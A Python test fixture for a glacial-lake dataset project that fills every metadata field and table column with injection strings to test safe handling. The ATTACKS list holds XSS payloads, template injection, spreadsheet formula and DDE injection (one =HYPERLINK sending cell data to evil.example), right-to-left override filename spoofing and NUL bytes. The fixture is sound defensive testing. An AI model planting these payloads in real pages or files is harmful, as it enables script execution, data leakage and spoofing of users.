"""A dataset whose every text is an attack: markup, scripts, formulas, letters that turn the direction of writing, 10 kB, NUL."""

from __future__ import annotations

from pathlib import Path

import pyarrow as pa
import pyarrow.compute as pc

from data.cache import read_table, write_table
from data.meta import read_meta, write_meta
from data.schema import TABLES
from tests.datasets import SOURCE
from tests.scene_dataset import scene_dataset

FLAG = "__moraine_ran"
"""What a script that runs sets on `window`."""
RUN = f"window.{FLAG}=1"
TURN, BACK, NUL = "\u202e", "\u202c", "\0"
LONG = "Tsho Rolpa " * 1000
"""Eleven kilobytes."""
ATTACKS = (
    f"<img src=x onerror={RUN}>",
    f"<script>{RUN}</script>",
    f"\"'><svg onload={RUN}>",
    f"</script><script>{RUN}</script>",
    f"<a href='javascript:{RUN}'>click</a><b>bold</b><br>",
    f"{{{{constructor.constructor('{RUN}')()}}}}${{{RUN}}}",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    f"safe{TURN}gpj.exe{BACK}",
    f"{TURN}reversed and never turned back",
    f"nul{NUL}after",
    "tab\tline\r\nbreak",
    LONG,
    "&lt;b&gt;&amp;%(x)s%s{0}",
)
MARKUP = ATTACKS[0]
SEGMENTER = ATTACKS[2]
"""What the source with probabilities is called."""


def attack(place: int) -> str:
    """One after another."""
    return ATTACKS[place % len(ATTACKS)]


def hostile_dataset(folder: Path) -> Path:
    """The small dataset with images; every text of it that a person, a file or a model can choose is one of ATTACKS."""
    scene_dataset(folder)
    meta = read_meta(folder)
    texts = dict.fromkeys(("title", "licence", "citation", "description", "default_source"), MARKUP)
    texts |= {"name": "hostile", "sensors": {MARKUP: next(iter(meta.sensors.values()))}}
    write_meta(folder, type(meta)(**{**vars(meta), **texts}))
    own = {"dam_type": 4, "basin": 0, "sub_basin": 2, "country": 3, "note": 6, "lake_id": 5, "name": 1}
    _rewrite(folder, "lakes", own)
    table = read_table(folder / "lakes.parquet")
    extra = [attack(row + 7) for row in range(table.num_rows)]
    for place, title in enumerate((MARKUP, "=1+1", f"turned{TURN}name")):
        table = table.append_column(title, pa.array([attack(row + place) for row in range(table.num_rows)]))
    write_table(folder / "lakes.parquet", table.append_column("glacier", pa.array(extra)))
    _rewrite(folder, "scenes", {"sensor": None})
    _rewrite(folder, "areas", {"sensor": None, "source": None})
    _rewrite(folder, "outlines", {"source": None})
    _rewrite(folder, "events", {"evidence": 0})
    _rewrite(folder, "masks", {"note": 1})
    _scores(folder)
    _thresholds(folder)
    return folder


def _thresholds(folder: Path) -> None:
    """Areas of a few lakes by a source with probabilities, whose name is an attack as well."""
    table = read_table(folder / "areas.parquet")
    frame = table.to_pandas()
    few = frame[frame["lake_key"] < 4]
    made = [
        few.assign(source=SEGMENTER, threshold=threshold, area_km2=few["area_km2"] * factor)
        for threshold, factor in ((0.3, 1.1), (0.5, 1.0), (0.7, 0.9))
    ]
    more = [pa.Table.from_pandas(each, table.schema, preserve_index=False) for each in made]
    write_table(folder / "areas.parquet", pa.concat_tables([table, *more]))


def _scores(folder: Path) -> None:
    """Masks of a source that is an attack too, and scores of them."""
    masks = read_table(folder / "masks.parquet").to_pandas()
    masks["source"] = masks["source"].replace(SOURCE, MARKUP)
    spec = TABLES["masks"].columns
    write_table(folder / "masks.parquet", pa.table({name: pa.array(masks[name], spec[name].type, from_pandas=True) for name in spec}))
    keys = masks["scene_key"][masks["source"] == MARKUP].tolist()
    told = {"scene_key": keys, "source": [MARKUP] * len(keys), "label": ["label"] * len(keys), "scope": ["scene"] * len(keys)}
    rows = {
        name: pa.array(told.get(name, [place % 3 if pa.types.is_integer(column.type) else 0.5 for place in range(len(keys))]), column.type)
        for name, column in TABLES["scores"].columns.items()
    }
    write_table(folder / "scores.parquet", pa.table(rows))


def _rewrite(folder: Path, name: str, columns: dict[str, int | None]) -> None:
    """Put attacks into columns: one after another from a place on, or the first everywhere."""
    path = folder / f"{name}.parquet"
    table = read_table(path)
    for column, begin in columns.items():
        texts = [MARKUP if begin is None else attack(row + begin) for row in range(table.num_rows)]
        place = table.schema.get_field_index(column)
        table = table.set_column(place, table.schema.field(place), pc.cast(pa.array(texts), table.schema.field(place).type))
    write_table(path, table)
